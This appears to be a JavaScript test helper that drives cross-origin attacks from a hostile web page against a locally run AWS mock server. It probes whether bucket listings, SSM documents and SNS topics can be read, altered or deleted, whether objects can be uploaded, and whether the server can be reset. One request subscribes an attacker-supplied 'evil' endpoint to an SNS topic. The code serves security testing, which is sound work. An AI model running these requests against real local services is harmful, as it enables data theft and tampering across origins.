// What a page of another origin tries on a server of this machine. `attack` returns what it got:
// for each way a text, or null.
"use strict";

const SIGNATURE =
  "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20260101/eu-central-1/SERVICE/aws4_request, " +
  "SignedHeaders=host, Signature=" + "0".repeat(64);

const signed = (service, more) => ({ Authorization: SIGNATURE.replace("SERVICE", service), ...more });

async function read(url, options) {
  const answer = await fetch(url, options);
  const text = await answer.text();
  return answer.ok ? text : null;
}

function json(target, service, action, body) {
  return read(target + "/", {
    method: "POST",
    headers: signed(service, { "X-Amz-Target": action, "Content-Type": "application/x-amz-json-1.1" }),
    body: JSON.stringify(body),
  });
}

function query(target, service, body) {
  return read(target + "/", {
    method: "POST",
    headers: signed(service, { "Content-Type": "application/x-www-form-urlencoded" }),
    body: new URLSearchParams(body).toString(),
  });
}

function loads(kind, source) {
  return new Promise((resolve) => {
    const element = document.createElement(kind);
    element.onload = () => resolve("loaded");
    element.onerror = () => resolve(null);
    element[kind === "link" ? "href" : "src"] = source;
    if (kind === "link") element.rel = "stylesheet";
    document.body.append(element);
  });
}

function fields(values) {
  const form = new FormData();
  for (const [name, value] of Object.entries(values)) form.append(name, value);
  return form;
}

function submit(action, fields) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + Math.random();
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { action, method: "post", target: frame.name, enctype: "multipart/form-data" });
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("textarea");
      Object.assign(input, { name, value });
      form.append(input);
    }
    document.body.append(form);
    form.submit();
    // What came of it is seen in the server; an answer without content loads nothing.
    setTimeout(() => resolve(null), 500);
  });
}

function opens(target) {
  return new Promise((resolve) => {
    const socket = new WebSocket(target.replace("http", "ws") + "/");
    socket.onopen = () => resolve("opened");
    socket.onerror = () => resolve(null);
  });
}

function streams(target) {
  return new Promise((resolve) => {
    const source = new EventSource(target + "/");
    const end = (got) => () => { source.close(); resolve(got); };
    source.onopen = end("opened");
    source.onerror = end(null);
  });
}

// eslint-disable-next-line no-unused-vars
async function attack({ target, bucket, document: name, topic, evil, only, except }) {
  const content = JSON.stringify({ schemaVersion: "0.3", description: "theirs", mainSteps: [] });
  const silent = (path, body) =>
    fetch(target + path, { method: "POST", mode: "no-cors", body }).then(() => null);
  const ways = {
    "list buckets": () => read(target + "/"),
    "list buckets, with a preflight": () => read(target + "/", { headers: signed("s3") }),
    "list objects": () => read(`${target}/${bucket}?list-type=2`),
    "list what moto holds": () => read(target + "/moto-api/data.json"),
    "our own pages": () => read(target + "/surgeproof/holdings"),
    "read a document": () => json(target, "ssm", "AmazonSSM.GetDocument", { Name: name }),
    "change a document": () =>
      json(target, "ssm", "AmazonSSM.CreateDocument", { Name: name + "-theirs", Content: content, DocumentType: "Automation" }),
    "delete a document": () => json(target, "ssm", "AmazonSSM.DeleteDocument", { Name: name }),
    "subscribe a URL": () =>
      query(target, "sns", { Action: "Subscribe", Version: "2010-03-31", TopicArn: topic, Protocol: "http", Endpoint: evil }),
    "publish": () =>
      query(target, "sns", { Action: "Publish", Version: "2010-03-31", TopicArn: topic, Message: "theirs" }),
    "put an object": () => read(`${target}/${bucket}/put`, { method: "PUT", body: "theirs" }),
    "post an object, unseen": () => silent(`/${bucket}`, fields({ key: "posted", file: "theirs" })),
    "post a form": () => submit(`${target}/${bucket}`, { key: "form", file: "theirs" }),
    "seed": () => silent("/moto-api/seed?a=1", ""),
    "image": () => loads("img", target + "/favicon.ico"),
    "script": () => loads("script", target + "/moto-api/data.json"),
    "style": () => loads("link", target + "/moto-api/"),
    "frame": () => loads("iframe", target + "/moto-api/").then(() => null),
    "socket": () => opens(target),
    "events": () => streams(target),
    "beacon": () => { 
      navigator.sendBeacon(`${target}/${bucket}`, fields({ key: "beacon", file: "theirs" }));
      return null;
    },
    "reset": () => read(target + "/moto-api/reset", { method: "POST" }),
    "reset, unseen": () => silent("/moto-api/reset", ""),
    "reset by a form": () => submit(target + "/moto-api/reset", {}),
  };
  const got = {};
  for (const [way, tries] of Object.entries(ways)) {
    if (except.includes(way) || (only && !only.includes(way))) continue;
    try { got[way] = await tries(); } catch { got[way] = null; }
  }
  return got;
}
